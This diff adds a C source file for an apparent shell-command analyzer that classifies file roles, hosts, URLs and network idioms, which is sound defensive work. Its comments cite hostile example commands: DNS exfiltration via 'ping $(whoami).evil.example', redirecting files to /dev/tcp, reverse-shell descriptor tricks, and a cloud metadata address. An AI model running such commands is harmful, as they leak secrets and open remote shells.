@@ -1,0 +1,654 @@
+/*
+ * Facts of one interpreted command: which words are files it reads,
+ * writes, deletes or runs, its subcommand, the URLs and hosts it talks to,
+ * the variables it is given, and the network idioms (reverse shells,
+ * uploads, listeners, DNS exfiltration). The words are walked once against
+ * the command's row in knowledge.c; only what a row cannot say has code
+ * here (tar's mode, find's expression, remote paths of scp, curl's @file).
+ * Data is never a fact: a commit message, a grep pattern or an echo's
+ * words are not paths, hosts or commands.
+ */
+#include <string.h>
+#include <strings.h>
+
+#include "shell/carriers.h"
+#include "shell/facts.h"
+#include "util/host.h"
+
+void sh_strs_add(sh_ctx *c, sh_strs *l, pe_str s, int copy)
+{
+    if (!s.len || sh_grow(c, (void **)&l->items, &l->cap, l->n + 1, sizeof(*l->items)))
+        return;
+    if (copy && !(s.s = sh_strndup(c, s.s, s.len)))
+        return;
+    l->items[l->n++] = s;
+}
+
+sh_where sh_where_of(sh_ctx *c, unsigned scope)
+{
+    sh_where w;
+    w.cwd = sh_cwd(c, scope, &w.known);
+    return w;
+}
+
+sh_where sh_where_enter(sh_ctx *c, unsigned scope, sh_where w, pe_str dir, unsigned flags)
+{
+    pe_str d;
+    int known = sh_expand(c, scope, dir, flags, &d);
+    sh_where r = {d, known && (w.known || (d.len && d.s[0] == '/'))};
+    if (d.len && d.s[0] != '/' && w.cwd.len) {
+        char *j = sh_alloc(c, w.cwd.len + d.len + 2);
+        if (!j)
+            return w;
+        memcpy(j, w.cwd.s, w.cwd.len);
+        j[w.cwd.len] = '/';
+        memcpy(j + w.cwd.len + 1, d.s, d.len);
+        j[w.cwd.len + 1 + d.len] = '\0';
+        r.cwd.s = j;
+        r.cwd.len = w.cwd.len + 1 + d.len;
+    }
+    return r;
+}
+
+/* The terminal and the null device: what goes there is not a file. */
+static int dev_sink(pe_str w)
+{
+    static const char *const sinks[] = {"/dev/null", "/dev/stdout", "/dev/stderr",  "/dev/tty",
+                                        "/dev/zero", "/dev/fd/1",   "/dev/fd/2",    "/dev/stdin",
+                                        "/dev/fd/0", "/dev/random", "/dev/urandom", NULL};
+    return sh_in_list(sinks, w.s, w.len);
+}
+
+void sh_path_in(sh_ctx *c, unsigned scope, sh_where w, pe_str word, unsigned wflags, unsigned role)
+{
+    if (!word.len || !role || dev_sink(word))
+        return;
+    if ((role & PE_SHELL_P_UPLOAD) && sh_eq(word, "-")) {
+        c->flags |= PE_SHELL_UPLOAD; /* what comes in on stdin is sent */
+        role = PE_SHELL_P_UPLOAD;
+    }
+    if ((role & PE_SHELL_P_EXEC) && sh_file_downloaded(c, scope, word, wflags))
+        c->flags |= PE_SHELL_RUNS_DOWNLOAD;
+    pe_str p;
+    int known = sh_expand(c, scope, word, wflags, &p);
+    if (sh_grow(c, (void **)&c->paths, &c->path_cap, c->npaths + 1, sizeof(*c->paths)))
+        return;
+    pe_shell_path *e = &c->paths[c->npaths++];
+    e->path = p;
+    e->cwd = w.cwd;
+    e->role = role;
+    e->flags = (known ? 0 : PE_SHELL_P_UNKNOWN) |
+               ((wflags & PE_SHELL_W_GLOB) || memchr(p.s, '*', p.len) ? PE_SHELL_P_GLOB : 0);
+    if (!w.known && !(p.len && (p.s[0] == '/' || p.s[0] == '~')))
+        e->flags |= PE_SHELL_P_UNKNOWN;
+    if (c->remote)
+        e->flags |= PE_SHELL_P_REMOTE; /* a path on another host or in a container */
+}
+
+void sh_path_add(sh_ctx *c, unsigned scope, pe_str word, unsigned wflags, unsigned role)
+{
+    sh_path_in(c, scope, sh_where_of(c, scope), word, wflags, role);
+}
+
+/* ---- hosts and URLs ------------------------------------------------------ */
+
+static void add_host(sh_ctx *c, const pe_host *h)
+{
+    if (h->kind == PE_HOST_NONE)
+        return;
+    sh_strs_add(c, &c->hosts, h->text, 0);
+    if (h->v4.len && !(h->v4.len == h->text.len && !memcmp(h->v4.s, h->text.s, h->v4.len)))
+        sh_strs_add(c, &c->hosts, h->v4, 0);
+}
+
+/* The parts of a host that an expansion leaves known: what comes before
+ * the first one (http://169.254.170.2$URI reaches 169.254.170.2) and the
+ * domain after the last one ($(id).t.evil.example asks evil.example's
+ * servers). */
+static void known_host_parts(sh_ctx *c, pe_str h)
+{
+    size_t first = h.len, last = 0;
+    for (size_t i = 0; i < h.len; i++)
+        if (strchr("$`)}", h.s[i])) {
+            first = i < first ? i : first;
+            last = i + 1;
+        }
+    if (first == h.len)
+        return;
+    pe_str parts[2] = {{h.s, first}, {h.s + last, h.len - last}};
+    for (int k = 0; k < 2; k++) {
+        pe_str p = parts[k];
+        while (p.len && (p.s[0] == '.' || p.s[0] == '-'))
+            p.s++, p.len--;
+        while (p.len && (p.s[p.len - 1] == '.' || p.s[p.len - 1] == '-'))
+            p.len--;
+        if (!p.len || !memchr(p.s, '.', p.len))
+            continue; /* not a whole name */
+        pe_host host;
+        if (pe_host_normalize(&host, p.s, p.len, c->arena) < 0) {
+            sh_nomem(c);
+            return;
+        }
+        add_host(c, &host);
+    }
+}
+
+/* A name made by a substitution is a lookup that carries data out (DNS
+ * exfiltration: ping $(whoami).evil.example). */
+int sh_net_word(sh_ctx *c, unsigned scope, pe_str word, unsigned wflags, int style)
+{
+    pe_str t;
+    sh_expand(c, scope, word, wflags, &t);
+    pe_url u;
+    if (pe_url_parse(&u, t.s, t.len, (pe_url_style)style, c->arena) < 0) {
+        sh_nomem(c);
+        return 0;
+    }
+    if (u.host.kind == PE_HOST_NONE)
+        return 0;
+    const pe_str *h = &u.host.text;
+    if ((wflags & PE_SHELL_W_CMDSUB) && (memchr(h->s, '$', h->len) || memchr(h->s, '`', h->len)))
+        c->flags |= PE_SHELL_DNS_EXFIL;
+    sh_strs_add(c, &c->urls, t, 0);
+    add_host(c, &u.host);
+    if (wflags & PE_SHELL_W_EXPANDS)
+        known_host_parts(c, *h);
+    return (int)u.host.kind;
+}
+
+/* A DNS record type (dig x TXT, host -t is an option). */
+static int dns_type(pe_str w)
+{
+    static const char *const types[] = {"A",    "AAAA", "ANY",  "CAA",  "CNAME", "DNSKEY", "DS",
+                                        "MX",   "NS",   "PTR",  "SOA",  "SRV",   "TXT",    "HTTPS",
+                                        "SVCB", "AXFR", "IXFR", "NULL", NULL};
+    for (const char *const *t = types; *t; t++)
+        if (w.len == strlen(*t) && strncasecmp(w.s, *t, w.len) == 0)
+            return 1;
+    return 0;
+}
+
+/* The names a lookup or connection command is given: the first operand
+ * (ping host, telnet host port), or every name of a DNS tool (dig @server
+ * name TXT, host name server, nslookup name server), where a name made by
+ * a substitution carries data out. */
+static void lookup_words(sh_ctx *c, const sh_cmd *sc, const sh_know *k, const sh_walk *wk)
+{
+    size_t n = (k->flags & K_DNS) && strcmp(k->name, "ping") != 0 ? wk->nops : (wk->nops ? 1 : 0);
+    for (size_t i = 0; i < n; i++) {
+        pe_str w = sc->pub.argv[wk->ops[i]];
+        if ((k->flags & K_DNS) && w.len && w.s[0] == '+')
+            continue; /* dig +short */
+        if (w.len > 1 && w.s[0] == '@')
+            w.s++, w.len--;
+        else if ((k->flags & K_DNS) && dns_type(w))
+            continue;
+        sh_net_word(c, sc->scope, w, sc->pub.argf[wk->ops[i]], PE_URL_SSH);
+    }
+}
+
+/* Whether a word looks like a URL (scheme://). */
+static int is_url(pe_str w)
+{
+    size_t i = 0;
+    while (i < w.len && ((w.s[i] >= 'a' && w.s[i] <= 'z') || (w.s[i] >= 'A' && w.s[i] <= 'Z') ||
+                         (i && ((w.s[i] >= '0' && w.s[i] <= '9') || strchr("+.-", w.s[i])))))
+        i++;
+    return i > 1 && i + 2 < w.len && w.s[i] == ':' && w.s[i + 1] == '/' && w.s[i + 2] == '/';
+}
+
+/* ---- redirections -------------------------------------------------------- */
+
+/* A redirection making a descriptor a copy of a network connection: an
+ * fd opened to /dev/tcp earlier on the line, or one kept in a variable
+ * after ztcp. */
+static int dup_of_net(const sh_ctx *c, const pe_shell_redir *r)
+{
+    if (!sh_eq(r->op, "<&") && !sh_eq(r->op, ">&"))
+        return 0;
+    pe_str t = r->target;
+    if (t.len && t.s[0] == '$')
+        return c->net_fd_var;
+    long fd = 0;
+    for (size_t i = 0; i < t.len; i++) {
+        if (t.s[i] < '0' || t.s[i] > '9' || fd > 1000000)
+            return 0;
+        fd = fd * 10 + (t.s[i] - '0');
+    }
+    for (size_t i = 0; t.len && i < c->nnet_fds; i++)
+        if (c->net_fds[i] == fd)
+            return 1;
+    return 0;
+}
+
+static void redir_facts(sh_ctx *c, const sh_cmd *sc)
+{
+    const pe_shell_cmd *k = &sc->pub;
+    for (size_t j = 0; j < k->nredirs; j++) {
+        const pe_shell_redir *r = &k->redirs[j];
+        if (!(r->flags & PE_SHELL_R_FILE)) {
+            /* sh <&3 >&3 with 3 a connection: a shell driven from afar */
+            if ((k->flags & (PE_SHELL_C_INTERPRETER | PE_SHELL_C_DYNAMIC)) && dup_of_net(c, r))
+                c->flags |= PE_SHELL_REVERSE_SHELL;
+            continue;
+        }
+        if (dup_of_net(c, r)) { /* >&$REPLY after ztcp */
+            if (k->flags & (PE_SHELL_C_INTERPRETER | PE_SHELL_C_DYNAMIC))
+                c->flags |= PE_SHELL_REVERSE_SHELL;
+            continue;
+        }
+        pe_dev_net dn;
+        pe_str t;
+        sh_expand(c, sc->scope, r->target, r->flags, &t);
+        int net = pe_dev_net_parse(&dn, t.s, t.len, c->arena);
+        if (net < 0) {
+            sh_nomem(c);
+            return;
+        }
+        if (net == 1) { /* bash's /dev/tcp/HOST/PORT */
+            add_host(c, &dn.host);
+            if (r->fd >= 0 && (!k->argc || sh_eq(k->base, "exec")) && c->nnet_fds < 8)
+                c->net_fds[c->nnet_fds++] = r->fd; /* exec 3<>/dev/tcp/h/p */
+            if (k->flags & PE_SHELL_C_INTERPRETER)
+                c->flags |= PE_SHELL_REVERSE_SHELL;
+            else if ((r->flags & PE_SHELL_R_WRITE) && r->op.s[0] != '<' &&
+                     (r->fd == -1 || r->fd == 1))
+                c->flags |= PE_SHELL_UPLOAD; /* cat f > /dev/tcp/h/p */
+            continue;
+        }
+        unsigned role = r->flags & PE_SHELL_R_WRITE ? PE_SHELL_P_WRITE : 0;
+        if (r->op.s[0] == '<')
+            role |= PE_SHELL_P_READ;
+        sh_path_add(c, sc->scope, r->target, r->flags, role);
+    }
+}
+
+/* ---- walking the words --------------------------------------------------- */
+
+static unsigned role_bits(unsigned or_role)
+{
+    switch (or_role) {
+    case OR_READ:
+        return PE_SHELL_P_READ;
+    case OR_WRITE:
+        return PE_SHELL_P_WRITE;
+    case OR_DELETE:
+        return PE_SHELL_P_DELETE;
+    case OR_UPLOAD:
+        return PE_SHELL_P_UPLOAD | PE_SHELL_P_READ;
+    case OR_EXEC:
+        return PE_SHELL_P_EXEC | PE_SHELL_P_READ;
+    default:
+        return 0;
+    }
+}
+
+/* An option's value (word vi of k) with role r. */
+static void option_value(sh_ctx *c, const sh_cmd *sc, sh_walk *wk, unsigned r, pe_str v,
+                         unsigned vf)
+{
+    switch (r) {
+    case OR_OPERAND_ONE:
+        wk->skip_given = 1;
+        break;
+    case OR_CWD:
+        wk->w = sh_where_enter(c, sc->scope, wk->w, v, vf);
+        break;
+    case OR_URL:
+        sh_net_word(c, sc->scope, v, vf, PE_URL_WEB);
+        break;
+    case OR_UPLOAD_AT:
+    case OR_UPLOAD_NAMED: { /* @file, name=@file, name=<file (-F), name@file (urlencode) */
+        const char *at = memchr(v.s, '@', v.len);
+        if (!at && v.len && memchr(v.s, '<', v.len) && memchr(v.s, '=', v.len))
+            at = memchr(v.s, '<', v.len);
+        c->flags |= PE_SHELL_UPLOAD;
+        int named = r == OR_UPLOAD_NAMED && at && !memchr(v.s, '=', (size_t)(at - v.s));
+        if (at && (at == v.s || named || at[-1] == '=')) {
+            pe_str f = {at + 1, v.len - (size_t)(at - v.s) - 1};
+            size_t semi = 0;
+            while (semi < f.len && f.s[semi] != ';')
+                semi++; /* -F file=@x;type=text/plain */
+            f.len = semi;
+            if (f.len)
+                sh_path_in(c, sc->scope, wk->w, f, vf, PE_SHELL_P_UPLOAD | PE_SHELL_P_READ);
+        }
+        break;
+    }
+    case OR_CODE:
+        sh_carry_code(c, sc, v, vf);
+        break;
+    case OR_CONFIG:
+        sh_carry_setting(c, sc, v, vf);
+        break;
+    case OR_RESOLVE: { /* the address after the second ':' (brackets for IPv6) */
+        size_t colons = 0, i = 0;
+        for (; i < v.len && colons < 2; i++)
+            colons += v.s[i] == ':';
+        pe_str addr = {v.s + i, v.len - i};
+        const char *close = addr.len && addr.s[0] == '[' ? memchr(addr.s, ']', addr.len) : NULL;
+        if (close) { /* [v6] */
+            addr.s++;
+            addr.len = (size_t)(close - addr.s);
+        }
+        for (size_t e = 0; !close && e < addr.len; e++)
+            if (addr.s[e] == ',' || addr.s[e] == ':') {
+                addr.len = e; /* --connect-to H:P:H2:P2, --resolve H:P:A1,A2 */
+                break;
+            }
+        if (addr.len)
+            sh_net_word(c, sc->scope, addr, vf, PE_URL_SSH);
+        break;
+    }
+    default:
+        sh_path_in(c, sc->scope, wk->w, v, vf, role_bits(r));
+    }
+}
+
+static void flag_role(sh_walk *wk, unsigned r)
+{
+    if (r == OR_EDIT_FLAG)
+        wk->edit = 1;
+    else if (r == OR_LIST_FLAG)
+        wk->list = 1;
+    else if (r == OR_DELETE_FLAG)
+        wk->delete_flag = 1;
+}
+
+static int takes_value(unsigned r)
+{
+    return r && r != OR_EDIT_FLAG && r != OR_LIST_FLAG && r != OR_DELETE_FLAG;
+}
+
+/* A --long option at argv[j]; the number of extra words it takes. */
+static size_t long_option(sh_ctx *c, const sh_cmd *sc, const sh_know *k, sh_walk *wk, size_t j)
+{
+    const pe_shell_cmd *p = &sc->pub;
+    pe_str a = p->argv[j];
+    const char *eq = memchr(a.s, '=', a.len);
+    size_t nlen = eq ? (size_t)(eq - a.s) : a.len;
+    unsigned r = sh_know_optrole(k, a.s, nlen);
+    int takes = takes_value(r) || sh_know_long_arg(k, a.s + 2, nlen - 2);
+    flag_role(wk, r);
+    if (!takes)
+        return 0;
+    if (eq) {
+        pe_str v = {eq + 1, a.len - nlen - 1};
+        option_value(c, sc, wk, r, v, p->argf[j]);
+        return 0;
+    }
+    if (j + 1 >= p->argc)
+        return 0;
+    option_value(c, sc, wk, r, p->argv[j + 1], p->argf[j + 1]);
+    return 1;
+}
+
+/* A -cluster at argv[j]; the number of extra words it takes. Options of a
+ * single dash and several letters (openssl's -in, find's -delete) are
+ * looked up whole first. */
+static size_t short_option(sh_ctx *c, const sh_cmd *sc, const sh_know *k, sh_walk *wk, size_t j)
+{
+    const pe_shell_cmd *p = &sc->pub;
+    pe_str a = p->argv[j];
+    unsigned whole = a.len > 2 ? sh_know_optrole(k, a.s, a.len) : 0;
+    if (whole) {
+        flag_role(wk, whole);
+        if (!takes_value(whole) || j + 1 >= p->argc)
+            return 0;
+        option_value(c, sc, wk, whole, p->argv[j + 1], p->argf[j + 1]);
+        return 1;
+    }
+    for (size_t i = 1; i < a.len; i++) {
+        char opt[3] = {'-', a.s[i], 0};
+        unsigned r = sh_know_optrole(k, opt, 2);
+        flag_role(wk, r);
+        if (!takes_value(r) && !sh_know_short_arg(k, a.s[i]))
+            continue;
+        if (i + 1 < a.len) { /* the value attached: -ofile */
+            pe_str v = {a.s + i + 1, a.len - i - 1};
+            if (takes_value(r))
+                option_value(c, sc, wk, r, v, p->argf[j]);
+            return 0;
+        }
+        if (j + 1 >= p->argc)
+            return 0;
+        if (takes_value(r))
+            option_value(c, sc, wk, r, p->argv[j + 1], p->argf[j + 1]);
+        return 1;
+    }
+    return 0;
+}
+
+/* chmod -x f: a mode that looks like an option (chmod's own are -R -v -c
+ * -f and long ones). */
+static int chmod_mode(const sh_know *k, pe_str a)
+{
+    if (strcmp(k->name, "chmod") != 0 || a.len < 2 || a.s[1] == '-')
+        return 0;
+    for (size_t i = 1; i < a.len; i++)
+        if (!strchr("rwxXst", a.s[i]))
+            return 0;
+    return 1;
+}
+
+/* Walks argv[from..] of a command against its row. */
+static void walk_words(sh_ctx *c, const sh_cmd *sc, const sh_know *k, sh_walk *wk, size_t from)
+{
+    const pe_shell_cmd *p = &sc->pub;
+    int opts_done = 0;
+    for (size_t j = from; j < p->argc; j++) {
+        pe_str a = p->argv[j];
+        if (!opts_done && sh_eq(a, "--")) {
+            opts_done = 1;
+            continue;
+        }
+        if (!opts_done && a.len > 1 && a.s[0] == '-' && !chmod_mode(k, a)) {
+            j += a.s[1] == '-' ? long_option(c, sc, k, wk, j) : short_option(c, sc, k, wk, j);
+            continue;
+        }
+        const char *eq = memchr(a.s, '=', a.len);
+        unsigned r = eq ? sh_know_optrole(k, a.s, (size_t)(eq - a.s) + 1) : 0;
+        if (r) { /* dd's if=FILE */
+            pe_str v = {eq + 1, a.len - (size_t)(eq - a.s) - 1};
+            option_value(c, sc, wk, r, v, p->argf[j]);
+            continue;
+        }
+        if (wk->nops < sizeof(wk->ops) / sizeof(wk->ops[0]))
+            wk->ops[wk->nops++] = j;
+        if (k->flags & K_PERMUTE)
+            opts_done = 1;
+    }
+}
+
+void sh_operand_roles(sh_ctx *c, const sh_cmd *sc, const sh_know *k, sh_walk *wk, unsigned op)
+{
+    size_t first = k->skip && !wk->skip_given ? k->skip : 0;
+    if (first > wk->nops)
+        first = wk->nops;
+    size_t n = wk->nops;
+    if (wk->edit && op == OP_READ)
+        op = OP_EDIT;
+    for (size_t i = first; i < n; i++) {
+        size_t j = wk->ops[i];
+        int last = i + 1 == n && n - first > 1;
+        unsigned role = 0;
+        switch (op) {
+        case OP_READ:
+            role = PE_SHELL_P_READ;
+            break;
+        case OP_WRITE:
+            role = PE_SHELL_P_WRITE;
+            break;
+        case OP_DELETE:
+            role = PE_SHELL_P_DELETE;
+            break;
+        case OP_EDIT:
+            role = PE_SHELL_P_READ | PE_SHELL_P_WRITE;
+            break;
+        case OP_LIST:
+            role = PE_SHELL_P_LIST;
+            break;
+        case OP_EXEC:
+            role = PE_SHELL_P_EXEC | PE_SHELL_P_READ;
+            break;
+        case OP_COPY:
+            role = last ? PE_SHELL_P_WRITE : PE_SHELL_P_READ;
+            break;
+        case OP_MOVE:
+            role = last ? PE_SHELL_P_WRITE : PE_SHELL_P_READ | PE_SHELL_P_DELETE;
+            break;
+        case OP_FIRST:
+            role = i == first ? PE_SHELL_P_WRITE : PE_SHELL_P_READ;
+            break;
+        case OP_IO:
+            role = i == first ? PE_SHELL_P_READ : i == first + 1 ? PE_SHELL_P_WRITE : 0;
+            break;
+        case OP_URL:
+            continue; /* the special handlers know the style */
+        default:
+            break;
+        }
+        if (wk->list)
+            role = PE_SHELL_P_LIST;
+        if (wk->delete_flag)
+            role |= PE_SHELL_P_DELETE;
+        sh_path_in(c, sc->scope, wk->w, sc->pub.argv[j], sc->pub.argf[j], role);
+    }
+}
+
+/* ---- subcommands ----------------------------------------------------------- */
+
+static int in_words(const char *const *l, pe_str w)
+{
+    for (; l && *l; l++)
+        if (sh_eq(w, *l))
+            return 1;
+    return 0;
+}
+
+/* git reset, docker compose up: the path of words after the global
+ * options; recorded as "git reset" and, for a group, "git stash drop". */
+static void subcommand(sh_ctx *c, size_t idx, const sh_know *k, sh_walk *wk)
+{
+    pe_shell_cmd *p = &c->cmds[idx].pub;
+    if (!wk->nops)
+        return;
+    size_t j = wk->ops[0], n = 1;
+    pe_str a = p->argv[j];
+    if (!a.len || (p->argf[j] & PE_SHELL_W_EXPANDS))
+        return;
+    /* later words only while they can be part of the path: with a list of
+     * groups, only after a group's name (git stash drop, not git push origin) */
+    while (n < k->sub->depth && n < wk->nops && wk->ops[n] == j + n &&
+           (!k->sub->groups || in_words(k->sub->groups, p->argv[j])) &&
+           !(p->argf[j + n] & PE_SHELL_W_EXPANDS))
+        n++;
+    p->subidx = j;
+    p->nsub = n;
+    size_t len = p->base.len;
+    for (size_t i = 0; i < n; i++)
+        len += 1 + p->argv[j + i].len;
+    char *d = sh_alloc(c, len + 1);
+    if (!d)
+        return;
+    size_t o = 0;
+    memcpy(d, p->base.s, p->base.len);
+    o = p->base.len;
+    for (size_t i = 0; i < n; i++) {
+        d[o++] = ' ';
+        memcpy(d + o, p->argv[j + i].s, p->argv[j + i].len);
+        o += p->argv[j + i].len;
+        pe_str s = {d, o};
+        sh_strs_add(c, &c->subs, s, 1);
+    }
+}
+
+/* Variables the command is given (NAME=value before it, env NAME=value,
+ * export NAME=value): recorded, and those that carry code or a file to
+ * run are followed (carriers.c). */
+static void env_facts(sh_ctx *c, const sh_cmd *sc)
+{
+    const pe_shell_cmd *k = &sc->pub;
+    size_t first = k->argc ? (size_t)(k->argv - k->words) : k->nwords;
+    int exports = k->argc && (sh_eq(k->base, "export") || sh_eq(k->base, "declare") ||
+                              sh_eq(k->base, "typeset"));
+    for (size_t j = 0; j < k->nwords; j++) {
+        pe_str w = k->words[j];
+        unsigned f = k->wordf[j];
+        int given = k->argc && j < first && (f & PE_SHELL_W_ASSIGN);
+        int exported = exports && j > first && memchr(w.s, '=', w.len) && w.s[0] != '-';
+        if (!given && !exported)
+            continue;
+        pe_str t;
+        sh_expand(c, sc->scope, w, f, &t);
+        sh_strs_add(c, &c->envs, t, 0);
+        sh_carry_variable(c, sc, t, f);
+    }
+}
+
+static int xargs_wrapped(const pe_shell_cmd *k)
+{
+    for (size_t w = 0; w < k->nwrappers; w++)
+        if (sh_eq(k->wrappers[w], "xargs"))
+            return 1;
+    return 0;
+}
+
+void sh_facts(sh_ctx *c, size_t idx)
+{
+    redir_facts(c, &c->cmds[idx]);
+    env_facts(c, &c->cmds[idx]);
+    const sh_cmd *sc = &c->cmds[idx];
+    if (sc->pub.argc == 0 || (sc->pub.flags & PE_SHELL_C_RESOLVED) || c->stop)
+        return;
+    const sh_know *k =
+        (sc->pub.argf[0] & PE_SHELL_W_UNKNOWN_NAME) ? NULL : sh_know_find(sc->pub.base);
+    sh_walk wk;
+    memset(&wk, 0, sizeof(wk));
+    wk.w = sh_where_of(c, sc->scope);
+    if (sc->chdir.len) /* env -C DIR cmd */
+        wk.w = sh_where_enter(c, sc->scope, wk.w, sc->chdir, sc->chdir_flags);
+    if (k && xargs_wrapped(&sc->pub) && k->operands != OP_NONE && k->operands != OP_URL) {
+        /* arguments from xargs' input: files not known here */
+        static const unsigned role_of[] = {[OP_READ] = PE_SHELL_P_READ,
+                                           [OP_WRITE] = PE_SHELL_P_WRITE,
+                                           [OP_DELETE] = PE_SHELL_P_DELETE,
+                                           [OP_EDIT] = PE_SHELL_P_READ | PE_SHELL_P_WRITE,
+                                           [OP_LIST] = PE_SHELL_P_LIST,
+                                           [OP_COPY] = PE_SHELL_P_READ,
+                                           [OP_MOVE] = PE_SHELL_P_READ | PE_SHELL_P_DELETE,
+                                           [OP_FIRST] = PE_SHELL_P_READ,
+                                           [OP_IO] = PE_SHELL_P_READ,
+                                           [OP_EXEC] = PE_SHELL_P_EXEC};
+        pe_str input = {"$(xargs input)", 14};
+        sh_path_in(c, sc->scope, wk.w, input, PE_SHELL_W_CMDSUB, role_of[k->operands]);
+        sc = &c->cmds[idx];
+    }
+    if (k) {
+        walk_words(c, sc, k, &wk, 1);
+        if (k->flags & K_SUBS)
+            subcommand(c, idx, k, &wk);
+        sc = &c->cmds[idx];
+        if (!(k->flags & K_SPECIAL) || !sh_special(c, idx, k, &wk))
+            sh_operand_roles(c, &c->cmds[idx], k, &wk, k->operands);
+        sc = &c->cmds[idx];
+        if (k->operands == OP_URL && !(k->flags & K_SPECIAL))
+            lookup_words(c, sc, k, &wk);
+        if (strcmp(k->name, "ztcp") == 0) { /* zsh: the connection's fd is in $REPLY */
+            c->net_fd_var = 1;
+            for (size_t j = 1; j < sc->pub.argc; j++)
+                if (sh_eq(sc->pub.argv[j], "-l"))
+                    c->flags |= PE_SHELL_LISTEN;
+        }
+    } else {
+        for (size_t j = 1; j < sc->pub.argc; j++)
+            wk.ops[wk.nops < 64 ? wk.nops++ : 63] = j;
+    }
+    sc = &c->cmds[idx];
+    if (!k || !(k->flags & K_SPECIAL)) /* URLs among any command's operands */
+        for (size_t i = 0; i < wk.nops; i++)
+            if (is_url(sc->pub.argv[wk.ops[i]]))
+                sh_net_word(c, sc->scope, sc->pub.argv[wk.ops[i]], sc->pub.argf[wk.ops[i]],
+                            PE_URL_WEB);
+    sh_carry_command(c, idx, k, &wk);
+}
